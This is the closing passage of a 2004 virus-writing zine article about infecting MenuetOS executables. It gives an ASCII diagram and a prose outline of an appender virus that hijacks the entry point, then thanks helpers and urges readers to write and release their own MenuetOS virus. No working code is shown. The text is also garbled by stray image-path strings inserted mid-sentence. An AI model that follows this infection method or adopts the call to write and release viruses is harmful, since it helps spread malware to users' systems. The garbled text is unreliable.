          ++        ++                 ++          ++
          ++  HOST  ++                 ++   HOST   ++
          ++        ++                 ++          ++
          ++  CODE  ++                 ++   CODE   ++
          ++        ++                 ++          ++
          ++++++++++++                 ++++++++++++++
                                       **  VIRUS   **
                                       ** JUMP TO  ****    EP    **

          An Appender searchs for the filesize and copies itself to that offset. After that, it
          searchs for the Entry Point, overwrite it with the virusstart (dword [0xC]=dword[0x10]).
          Than it writes the original Entry Point to the offset of the jump, which gives back the
          control to the host. This way MenuetOS will execute the virus infront of the host, which
          will be executed after the virus starts.

  5) Last words

     Finally, I want to say that I'm very happy after finish this article. This project (MenuetOS)
     used some hunderts of hours. First I had to analyse the way MenuetOS works, than I had to read
     many sources of Menuet-executeables, and I tried to understand them (which was sometimes very
     hard, because not everything was explained). Than learning about the Systemcalls and other
     Menuet things was nessecary. Next step to learn was the file-format (at least the header).
     Time went on, and I stared to understand how everything worked. Simple codes by me did what
     they were suposed to do, and out of some simple codes, a new virus was born.
     The reason, why I have written this article is the fact, that I didn't want to let the whole
     informations I collected last few month became lost. Well, here is that collection.
     In the end, and this should be it, it's important for me to say 'Thank You' to some persons,
     who were very important for all my MenuetOS descovering:

       - Ville Mikael Turjanmaa
                                The main-coder and founder of MenuetOS. (
                                You seems to be a really cool and damn smart guy. MenuetOS
                                is agreat field for learning about assembly language and
                                OS developing. It really helped me alot to increase my asm
                                knowlegde. This way I want to say Thanks for you, and also
                                for your interesting email-answere. Please keep on working
                                on that tool, and maybe you will also include a little AV
                                for that OS. ;) Take care!

       - VxF
                                The guy, who introduced me in Menuet and inspire me in writing
                                a virus for it. Much thanks for that all. Andalso much thanks
                                for everything else you have ever done for me, you're one of
                                the most important guys in my cyberlife...

       - jpelczar
                                The great progging-freak and Menuet-messiah at #MenuetOS.
                                Without you, nobody could read this article, therefor a big
                                thanks for all the time you offered to explain me different
                                strange things at MenuetOS' behaviour. Big sorry that I didn't
                                say what for i need all the information, I hope you don't
                                hate me because of that.- SlageHammer
                                The damn friendly guy in IRC, who knows help for every problem.
                                Molto grazie per tutti hai fatto per me. (damn, my italian is
                                even worse than my english) :D And thanks for telling me about
                                the KAV name of my virus (Menuet.Xymo.a)!

       - Music:
                   + Theatre Of Tragedy
                                Thank you for your relaxing gothic sound. It helps alot
                                listening to your music after 2 hours of no success at anything.
                                You inspire me to on, and let me feel like a god! :)

                   + Darkfall & StuckMojo
                                Great trash metal, which makes me feel better than a god after
                                finishing any part of the code, leting a code do what it's
                                suposed to do, and so on. It gives me the needed energy for
                                working on the next part.

                   + Music of the 60s, 70s & 80s
                                Great bands like Uriah Heep, KISS, ACDC, The Byrds, Deep Purple,
                                Scorpions, Iron Maiden, CCR, Manowar and so on give a cooland
                                relaxed feeling, which is important for writing and coding...

     But I don't want to just thank these guys above, but also YOU, reader. Thank you for reading
     this piece of code. I really hope that you have enjoyed this and that you learned some
     things (maybe notalot, but maybe some little things). I would be happy as hell if you would
     write your own virus for MenuetOS (and, of course, release it). It's not very difficult, so
     just try it! Last hello goes to my RainBow, thanks for being with me!
     Lastthing I want to say is: see you out there soon...

                                                        - - - - - - - - - - - - - - -
                                                          Second Part ToHell/[rRlf]
                                                          writtenfrom march-june 2004- - - - - - - - - - - - - - -